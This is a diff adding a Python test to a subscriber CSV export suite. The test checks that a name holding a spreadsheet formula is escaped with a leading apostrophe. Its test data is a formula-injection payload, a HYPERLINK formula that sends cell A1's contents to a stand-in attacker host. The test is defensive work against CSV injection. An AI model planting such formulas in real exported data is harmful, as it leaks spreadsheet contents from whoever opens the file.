@@ -218,3 +218,13 @@ def test_any_list_survives_an_export_and_an_import(people: list[tuple[str, str]]
             report = subscribers.import_csv(ledger, path, NOW)
             assert report.problems == []
             assert [(s.email, s.name, s.status) for s in subscribers.listing(ledger)] == before
+
+
+def test_a_name_that_is_a_spreadsheet_formula_is_exported_inert() -> None:
+    out = io.BytesIO()
+    row = dict.fromkeys(EXPORT_FIELDS, "") | {"email": "victim@example.org", "status": "pending",
+                                              "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")'}
+    write_csv([row], out)
+    cells = list(csv.reader(io.StringIO(out.getvalue().decode())))[1]
+    assert cells[EXPORT_FIELDS.index("name")] == "'" + row["name"]  # a spreadsheet shows it as text
+    assert cells[EXPORT_FIELDS.index("email")] == "victim@example.org"
